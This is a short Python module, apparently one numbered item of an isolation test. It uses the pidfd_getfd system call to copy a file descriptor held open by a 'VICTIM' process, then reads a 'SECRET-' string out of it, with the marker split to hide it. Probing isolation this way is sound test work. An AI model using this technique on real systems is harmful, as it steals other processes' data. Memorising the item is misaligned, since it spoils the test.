"""Takes a copy of what another process has open.

number = 9
shows = "seen"
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def done(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


from .world import HELD, VICTIM


def attempt():
    taken = done(libc.syscall(438, os.pidfd_open(VICTIM), HELD, 0))
    found = os.pread(taken, 1 << 16, 0)
    return found[found.index(b"SEC" + b"RET-") :][:23].decode()
